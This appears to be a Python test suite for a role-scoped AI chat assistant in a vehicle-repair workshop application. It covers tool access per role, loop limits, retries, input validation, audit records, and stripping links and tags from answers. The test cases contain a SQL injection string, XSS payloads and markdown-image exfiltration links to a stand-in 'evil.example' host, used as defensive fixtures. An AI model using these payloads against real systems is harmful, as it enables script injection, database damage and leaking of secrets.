"""The conversation loop: tools offered by the role policy, bounds, retries, audit."""

from __future__ import annotations

import pytest

from regenzet.application.chat import (
    ChatInputError,
    ModelFinished,
    TextDelta,
    collect,
    plain_answer,
)
from regenzet.entrypoints.http.policy import POLICY

from ..http.conftest import Api, order_id
from .conftest import ScriptedChatModel, assistant_for, principal_of, text_round, tool_round

LEAF_ORDER = str(order_id("leaf-balance"))  # Lukas's order, awaiting his approval


def offered(model: ScriptedChatModel) -> set[str]:
    return {t.name for t in model.requests[0].tools}


@pytest.mark.parametrize(
    ("name", "tools"),
    [
        (
            "lukas",
            {
                "list_my_vehicles",
                "list_my_repair_orders",
                "get_repair_order",
                "get_inspection_findings",
                "get_battery_health",
            },
        ),
        (
            "eva",
            {
                "get_repair_order",
                "get_inspection_findings",
                "get_battery_health",
                "get_workshop_board",
                "get_technician_workload",
            },
        ),
        (
            "noor",
            {
                "get_repair_order",
                "get_inspection_findings",
                "get_battery_health",
                "get_workshop_board",
                "get_technician_workload",
            },
        ),
        (
            "pieter",
            {
                "get_repair_order",
                "get_inspection_findings",
                "get_battery_health",
                "get_workshop_board",
                "get_technician_workload",
                "get_kpis",
            },
        ),
    ],
)
def test_each_role_is_offered_the_tools_its_api_operations_allow(
    garage: Api, name: str, tools: set[str]
) -> None:
    model = ScriptedChatModel([text_round("Hello.")])
    collect(assistant_for(garage, model).ask(principal_of(garage, name), "hi"))
    assert offered(model) == tools
    role = principal_of(garage, name).role
    assistant = assistant_for(garage, model)
    for tool in assistant.tools_for(principal_of(garage, name)):
        assert role in POLICY[tool.operation_id]


def test_a_tool_round_runs_the_tool_as_the_caller_and_returns_data(garage: Api) -> None:
    model = ScriptedChatModel(
        [
            tool_round(("get_repair_order", {"repair_order_id": LEAF_ORDER})),
            text_round("Your order awaits approval."),
        ]
    )
    done, tools = collect(assistant_for(garage, model).ask(principal_of(garage, "lukas"), "q"))
    assert done.stop_reason == "end_turn"
    assert done.tool_rounds == 1
    assert [(t.name, t.status) for t in tools] == [("get_repair_order", "success")]
    assert done.records == (LEAF_ORDER,)
    second = model.requests[1].messages
    assert [m.role for m in second] == ["user", "assistant", "user"]
    result = second[2].tool_results[0]
    assert result.status == "success"
    assert result.content["data"]["status"] == "awaiting_approval"
    # People's text is kept apart from the data, under a name the system prompt calls untrusted.
    assert result.content["untrusted_text"] == {"concern_1": "Range dropped noticeably this winter"}
    assert result.content["links"]["approve"] == f"/portal/repair-orders/{LEAF_ORDER}"


def test_the_loop_stops_after_the_configured_tool_rounds(garage: Api) -> None:
    rounds = [tool_round(("get_workshop_board", {"status": s})) for s in ("inspecting", "closed")]
    model = ScriptedChatModel([*rounds, tool_round(("get_workshop_board", {}))])
    assistant = assistant_for(garage, model)
    assistant.limits = type(assistant.limits)(max_tool_rounds=2)
    done, tools = collect(assistant.ask(principal_of(garage, "eva"), "q"))
    assert done.stop_reason == "tool_rounds"
    assert len(tools) == 2
    assert done.notice is not None
    assert "maximum number of look-ups" in done.notice


def test_the_loop_stops_when_the_token_budget_is_spent(garage: Api) -> None:
    model = ScriptedChatModel([tool_round(("get_workshop_board", {}), tokens=600)])
    assistant = assistant_for(garage, model)
    assistant.limits = type(assistant.limits)(max_tokens_per_turn=1000)
    done, _ = collect(assistant.ask(principal_of(garage, "eva"), "q"))
    assert done.stop_reason == "token_budget"
    assert (done.input_tokens, done.output_tokens) == (600, 600)


def test_the_output_budget_shrinks_with_the_tokens_already_used(garage: Api) -> None:
    model = ScriptedChatModel(
        [tool_round(("get_workshop_board", {}), tokens=300), text_round("done")]
    )
    assistant = assistant_for(garage, model)
    assistant.limits = type(assistant.limits)(max_tokens_per_turn=1000, max_output_tokens=800)
    collect(assistant.ask(principal_of(garage, "eva"), "q"))
    assert [r.max_tokens for r in model.requests] == [800, 400]


def test_the_loop_stops_at_the_wall_time_bound(garage: Api) -> None:
    ticks = iter([0.0, 31.0, 62.0])
    model = ScriptedChatModel([tool_round(("get_workshop_board", {}))])
    assistant = assistant_for(garage, model)
    assistant._monotonic = lambda: next(ticks)
    done, _ = collect(assistant.ask(principal_of(garage, "eva"), "q"))
    assert done.stop_reason == "wall_time"


def test_the_same_call_twice_stops_the_loop(garage: Api) -> None:
    call = ("get_workshop_board", {"status": "inspecting"})
    model = ScriptedChatModel([tool_round(call), tool_round(call)])
    done, tools = collect(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    assert done.stop_reason == "repeated_call"
    assert len(tools) == 2


def test_a_malformed_round_is_retried_once_then_answered_with_a_fallback(garage: Api) -> None:
    malformed = [ModelFinished("malformed_model_output", 5, 5)]
    model = ScriptedChatModel([malformed, text_round("Recovered.")])
    done, _ = collect(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    assert done.answer == "Recovered."
    model = ScriptedChatModel([malformed, malformed])
    done, _ = collect(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    assert done.answer == ""
    assert done.notice is not None
    assert "rephrase" in done.notice


@pytest.mark.parametrize(
    ("stop", "notice"),
    [("max_tokens", "cut short"), ("guardrail_intervened", "withheld")],
)
def test_truncated_and_blocked_answers_carry_a_notice(garage: Api, stop: str, notice: str) -> None:
    model = ScriptedChatModel([[TextDelta("Partial"), ModelFinished(stop, 1, 1)]])  # type: ignore[arg-type]
    done, _ = collect(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    assert done.notice is not None
    assert notice in done.notice
    assert done.answer == ("Partial" if stop == "max_tokens" else "")


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        ({"repair_order_id": "42; DROP TABLE"}, "not a valid id"),
        ({"repair_order_id": LEAF_ORDER, "customer_id": "x"}, "unknown argument 'customer_id'"),
        ({}, "give exactly one of repair_order_id, plate"),
        ({"plate": "<script>"}, "not a licence plate"),
        ({"repair_order_id": ["a"]}, "must be a short string"),
    ],
)
def test_tool_arguments_are_validated_like_api_input(
    garage: Api, arguments: dict[str, object], error: str
) -> None:
    model = ScriptedChatModel([tool_round(("get_repair_order", arguments)), text_round("Sorry.")])
    collect(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    result = model.requests[1].messages[-1].tool_results[0]
    assert result.status == "error"
    assert error in result.content["error"]


def test_every_turn_is_recorded_for_its_author_only(garage: Api) -> None:
    assert garage.services.read_models is not None
    model = ScriptedChatModel(
        [
            tool_round(("get_repair_order", {"repair_order_id": LEAF_ORDER})),
            text_round("It awaits approval."),
        ]
    )
    assistant = assistant_for(garage, model)
    done, _ = collect(assistant.ask(principal_of(garage, "lukas"), "Is it ready?"))
    turns = assistant._turns
    assert turns is not None
    mine, _ = turns.list_own(principal_of(garage, "lukas"), limit=100)
    turn = next(t for t in mine if t["id"] == done.turn_id)
    assert turn["question"] == "Is it ready?"
    assert turn["tool_calls"] == [
        {
            "tool": "get_repair_order",
            "arguments": {"repair_order_id": LEAF_ORDER},
            "status": "success",
            "record_ids": [LEAF_ORDER],
        }
    ]
    assert (turn["input_tokens"], turn["output_tokens"], turn["stop_reason"]) == (
        20,
        20,
        "end_turn",
    )
    others, _ = turns.list_own(principal_of(garage, "sanne"), limit=100)
    assert done.turn_id not in {t["id"] for t in others}


def test_questions_and_history_are_bounded(garage: Api) -> None:
    assistant = assistant_for(garage, ScriptedChatModel([]))
    with pytest.raises(ChatInputError, match="empty"):
        collect(assistant.ask(principal_of(garage, "eva"), "   "))
    with pytest.raises(ChatInputError, match="longer than"):
        collect(assistant.ask(principal_of(garage, "eva"), "x" * 2001))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](https://evil.example/p?d=secret) here", "See  here"),
        ("[approve](/portal/repair-orders/abc)", "approve (/portal/repair-orders/abc)"),
        ("[click](https://evil.example)", "click"),
        ("visit https://evil.example/x now", "visit [link removed] now"),
        ("<img src=x onerror=alert(1)>hi", "hi"),
    ],
)
def test_answers_are_plain_text_without_external_links(text: str, shown: str) -> None:
    assert plain_answer(text) == shown


def test_a_link_or_tag_split_across_deltas_is_still_removed(garage: Api) -> None:
    # Streamed deltas are arbitrary pieces: each piece alone looks harmless.
    pieces = [
        "See htt",
        "ps://evil.example/?d=secret now ",
        "<im",
        "g src=x onerror=alert(1)>",
        "![",
    ]
    pieces += ["x](https://evil.example/p.png) [a](ht", "tp://evil.example) done"]
    model = ScriptedChatModel([[*(TextDelta(p) for p in pieces), ModelFinished("end_turn", 1, 1)]])
    events = list(assistant_for(garage, model).ask(principal_of(garage, "eva"), "q"))
    streamed = "".join(e.text for e in events if hasattr(e, "text"))
    done, _ = collect(iter(events))
    for shown in (streamed, done.answer):
        assert "evil.example" not in shown
        assert "<im" not in shown
        assert "onerror" not in shown
    assert done.answer.startswith("See")
    assert done.answer.endswith("done")


def test_removing_a_tag_does_not_join_a_url() -> None:
    assert "evil" not in plain_answer("htt<b>ps://evil.example/x")
    assert "<img" not in plain_answer("<<b>img src=x onerror=alert(1)>")


def test_a_turn_that_fails_mid_way_is_still_recorded_with_the_tools_that_ran(
    garage: Api,
) -> None:
    class BrokenScreen:
        def screen(self, text: str) -> str | None:
            raise RuntimeError("screen down")

    model = ScriptedChatModel(
        [tool_round(("get_repair_order", {"repair_order_id": LEAF_ORDER})), text_round("x")]
    )
    assistant = assistant_for(garage, model, screen=BrokenScreen())
    lukas = principal_of(garage, "lukas")
    with pytest.raises(RuntimeError):
        collect(assistant.ask(lukas, "Is it ready? (broken screen)"))
    assert assistant._turns is not None
    mine, _ = assistant._turns.list_own(lukas, limit=100)
    turn = next(t for t in mine if t["question"] == "Is it ready? (broken screen)")
    assert turn["stop_reason"] == "error"
    assert [c["tool"] for c in turn["tool_calls"]] == ["get_repair_order"]
